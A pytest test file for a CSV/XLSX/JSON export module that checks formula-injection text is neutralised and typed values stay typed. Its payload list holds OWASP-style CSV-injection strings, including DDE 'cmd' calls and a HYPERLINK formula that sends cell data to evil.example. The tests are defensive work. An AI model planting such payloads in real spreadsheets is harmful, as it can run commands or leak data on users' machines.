"""The one writer of CSV and XLSX: text never becomes a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from aglomera.core import exports

# Payloads of OWASP's "CSV Injection" page and of the issue, and texts that start a formula.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1 beneficiary",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote(payload: str) -> None:
    # When a text that a spreadsheet program would run is written to a CSV
    rows = read_csv(exports.csv_bytes([["name"], [payload]]))
    # Then it reads back as the same text after a single quote
    assert rows[1] == [f"'{payload}"]


def test_every_csv_cell_is_quoted_and_quotes_are_doubled_as_owasp_shows() -> None:
    # OWASP's two examples: a separator or a quote inside a text cannot start a new cell
    data = exports.csv_bytes([['=1+2";=1+2', "=1+2'\" ;,=1+2", "plain", Decimal("2.50"), None]])
    assert data == b'"\'=1+2"";=1+2","\'=1+2\'"" ;,=1+2","plain","2.50",""\r\n'


def test_typed_numbers_and_dates_are_written_as_they_are() -> None:
    # Given typed values, among them negative amounts, and the same as texts
    row = [
        Decimal("-1500.00"),
        -3,
        -0.5,
        date(2025, 6, 30),
        datetime(2025, 6, 30, 8, 15, tzinfo=UTC),
        None,
        "-1500.00",
        "+420 585 000 000",
    ]
    # When they are written to a CSV
    [written] = read_csv(exports.csv_bytes([row]))
    # Then numbers and dates stay as they are; only the texts are neutralised
    assert written == [
        "-1500.00",
        "-3",
        "-0.5",
        "2025-06-30",
        "2025-06-30T08:15:00+00:00",
        "",
        "'-1500.00",
        "'+420 585 000 000",
    ]


def test_a_number_that_is_not_finite_is_written_as_text() -> None:
    [written] = read_csv(exports.csv_bytes([[Decimal("NaN"), float("inf"), Decimal("-Infinity")]]))
    assert written == ["NaN", "inf", "'-Infinity"]
    data = exports.xlsx_bytes([["a"], [Decimal("-Infinity")], [float("nan")]], title="x")
    sheet = load_workbook(io.BytesIO(data)).active
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "-Infinity")
    assert (sheet["A3"].data_type, sheet["A3"].value) == ("s", "nan")


def test_a_csv_download_has_a_byte_order_mark_and_a_file_name() -> None:
    response = exports.csv_response([["a"], ["=1+1"]], filename="list.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="list.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert read_csv(response.content) == [["a"], ["'=1+1"]]


def test_an_xlsx_stores_every_text_as_text_and_numbers_and_dates_typed() -> None:
    # Given every payload, an error-like text, control characters and typed values
    rows: list[list[object]] = [["text", "amount", "day", "moment"]]
    rows += [[payload, Decimal("-1500.00"), date(2025, 6, 30), None] for payload in PAYLOADS]
    rows.append(["#N/A", -3, None, datetime(2025, 6, 30, 8, 15, tzinfo=UTC)])
    rows.append(["bell\x07 and NUL\x00", 1.5, None, None])
    rows.append(["x" * 40000, None, None, None])
    # When they are written to an XLSX, the workbook opens again
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(rows, title="A title longer than 31 ch")))
    sheet = sheet.active
    assert sheet.title == "A title longer than 31 ch"[:31]
    cells = list(sheet.iter_rows(min_row=2))
    # Then no cell is a formula (nor an error value), and each text is kept as it was
    assert all(cell.data_type not in ("f", "e") for row in sheet.iter_rows() for cell in row)
    for (text, amount, day, _moment), payload in zip(cells, PAYLOADS, strict=False):
        assert text.data_type == "s"
        assert text.value == payload
        assert text.quotePrefix  # Excel keeps it text even when the cell is edited
        assert amount.data_type == "n"
        assert amount.value == -1500
        assert amount.number_format == "#,##0.00"
        assert day.is_date
        assert day.value.date() == date(2025, 6, 30)
    error_like, controls, long_text = cells[-3], cells[-2], cells[-1]
    assert (error_like[0].data_type, error_like[0].value) == ("s", "#N/A")
    assert not error_like[0].quotePrefix
    assert error_like[1].value == -3
    assert error_like[3].value.timetuple()[:5] == (2025, 6, 30, 10, 15)  # Prague time
    # And characters an XLSX cannot hold are replaced, a text is cut at Excel's limit
    assert controls[0].value == "bell\ufffd and NUL\ufffd"
    assert controls[1].value == 1.5
    assert len(long_text[0].value) == exports.XLSX_MAX_TEXT


def test_the_column_writers_give_headers_with_references_and_json_verbatim() -> None:
    columns = [
        exports.Column("name", "Beneficiary name", "Art. 49(3)(a)"),
        exports.Column("n", "N"),
    ]
    rows = [{"name": "=1+1 beneficiary", "n": Decimal("-2.50")}]
    assert read_csv(exports.to_csv(columns, rows)) == [
        ["Beneficiary name [Art. 49(3)(a)]", "N"],
        ["'=1+1 beneficiary", "-2.50"],
    ]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(columns, rows, title="Operations"))).active
    assert [cell.value for cell in sheet[2]] == ["=1+1 beneficiary", -2.5]
    assert sheet.freeze_panes == "A2"
    document = json.loads(exports.to_json(columns, rows, meta={"as_of": date(2025, 1, 2)}, key="x"))
    assert document["as_of"] == "2025-01-02"
    assert document["x"] == [{"name": "=1+1 beneficiary", "n": "-2.50"}]
